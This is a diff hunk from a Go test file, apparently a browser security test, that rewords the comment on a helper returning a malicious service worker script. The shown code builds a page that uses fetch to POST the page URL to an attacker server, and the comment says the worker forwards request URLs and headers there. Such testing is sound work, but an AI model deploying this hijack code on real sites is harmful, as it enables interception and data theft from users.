@@ -165,8 +165,8 @@ func opensWith(t testing.TB, at, loot string) string {
 }
 
 // planted returns the script of a malicious service worker. The browser passes each request for the
-// attacked origin to the worker, which sends its URL and headers to the attacker's server. The
-// worker answers page loads with the attacker's page. The parameter owner is the server's URL.
+// attacked origin to the worker. The worker sends the request's URL and headers to the attacker's
+// server, whose URL is the parameter owner. It answers page loads with the attacker's page.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
